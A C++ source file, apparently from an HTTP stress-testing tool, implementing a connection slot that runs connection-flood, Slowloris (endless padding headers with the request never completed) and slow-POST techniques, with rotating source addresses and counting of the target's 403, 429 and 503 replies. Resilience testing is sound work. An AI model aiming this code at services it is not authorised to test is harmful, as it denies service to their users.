#include "storm/hold_slot.h"

#include <algorithm>

namespace floodgate::storm {

HoldSlot::HoldSlot(GroupShared* group, uint64_t global_index) : Slot(group, global_index) {
  timer_.setCallback([this] { trickle(); });
}

HoldSlot::~HoldSlot() { g_->loop().cancel(&timer_); }

void HoldSlot::onDue(MonoTime) {
  if (fd_ >= 0) return;  // still holding: nothing to do
  ++g_->counters()[Count::kScheduled];
  SocketAddress source = g_->sourceFor(index_, attempts_);
  ++attempts_;
  pending_.clear();
  pending_pos_ = 0;
  lines_ = 0;
  body_sent_ = 0;
  head_done_ = false;
  reader_.start(g_->method);
  Count c = connectFrom(source);
  if (c != Count::kEnd) ++g_->counters()[c];
}

void HoldSlot::onConnected() {
  ++g_->counters()[Count::kSent];
  if (g_->spec->kind == GroupKind::kConnectionFlood) return;  // hold it, say nothing
  if (g_->spec->kind == GroupKind::kSlowPost) {
    // The head goes at once; only the body crawls.
    g_->bank.renderHead(0, g_->worker->rng, {}, &pending_);
    head_done_ = true;
    setOutput(pending_);
    onWritable();
    return;
  }
  trickle();
}

void HoldSlot::onConnectFailed(Count why) { ++g_->counters()[why]; }

bool HoldSlot::refill() {
  const ClientGroup& s = *g_->spec;
  pending_.clear();
  pending_pos_ = 0;
  if (s.kind == GroupKind::kSlowPost) {
    if (body_sent_ >= s.body_bytes) return false;
    uint64_t n = std::min<uint64_t>(s.body_bytes - body_sent_, 4096);
    pending_.assign(n, 'x');
    body_sent_ += n;
    return true;
  }
  // Slowloris: a real request line and headers, then padding headers forever.
  if (!head_done_) {
    g_->bank.renderHead(g_->worker->rng.below(g_->bank.size()), g_->worker->rng, {}, &pending_);
    pending_.resize(pending_.size() - 2);  // never the blank line
    head_done_ = true;
    return true;
  }
  pending_ = "X-Pad-" + std::to_string(lines_++) + ": " +
             std::to_string(g_->worker->rng.below(1u << 20)) + "\r\n";
  return true;
}

void HoldSlot::trickle() {
  if (fd_ < 0 || connecting_) return;
  if (outputPending()) {  // the target stopped reading; keep waiting
    g_->loop().schedule(&timer_, g_->spec->byte_interval);
    return;
  }
  if (pending_pos_ >= pending_.size() && !refill()) {
    // A slow POST that finished its body: now wait for the answer.
    return;
  }
  size_t n = std::min<size_t>(g_->spec->bytes_per_tick, pending_.size() - pending_pos_);
  setOutput(std::string_view(pending_).substr(pending_pos_, n));
  pending_pos_ += n;
  if (!flushOutput()) {
    end(classifyErrno(lastError()), true);
    return;
  }
  g_->loop().schedule(&timer_, g_->spec->byte_interval);
}

void HoldSlot::onWritable() {
  if (!flushOutput()) {
    end(classifyErrno(lastError()), true);
    return;
  }
  if (!outputPending() && g_->spec->kind == GroupKind::kSlowPost && body_sent_ == 0) {
    // Head written: start the body crawl.
    pending_.clear();
    pending_pos_ = 0;
    g_->loop().schedule(&timer_, g_->spec->byte_interval);
  }
}

void HoldSlot::onReadable() {
  for (;;) {
    ReadResult r = readSome();
    if (r == ReadResult::kError) {
      end(classifyErrno(lastError()), false);
      return;
    }
    bool eof = r == ReadResult::kEof;
    auto step = reader_.feed(in_, eof, nullptr);
    if (step == ResponseReader::Step::kDone) {
      // The target answered (408, 400, 413 ...): count it and let the slot go.
      Counters& c = g_->counters();
      int status = reader_.status();
      ++c[Count::kResponses];
      ++c[status < 300   ? Count::kStatus2xx
          : status < 400 ? Count::kStatus3xx
          : status < 500 ? Count::kStatus4xx
                         : Count::kStatus5xx];
      if (status < 400) ++c[Count::kOk];
      if (status == 403) ++c[Count::kStatus403];
      if (status == 429) ++c[Count::kStatus429];
      if (status == 503) ++c[Count::kStatus503];
      end(Count::kEnd, false);
      return;
    }
    if (step == ResponseReader::Step::kError) {
      end(reader_.sawBytes() ? Count::kBadResponse : Count::kClosed, false);
      return;
    }
    if (r == ReadResult::kDrained) return;
  }
}

void HoldSlot::end(Count why, bool reset) {
  if (why != Count::kEnd) ++g_->counters()[why];
  g_->loop().cancel(&timer_);
  closeConnection(reset);
}

void HoldSlot::onStop() {
  g_->loop().cancel(&timer_);
  closeConnection(false);
}

void HoldSlot::abandon() { onStop(); }

}  // namespace floodgate::storm
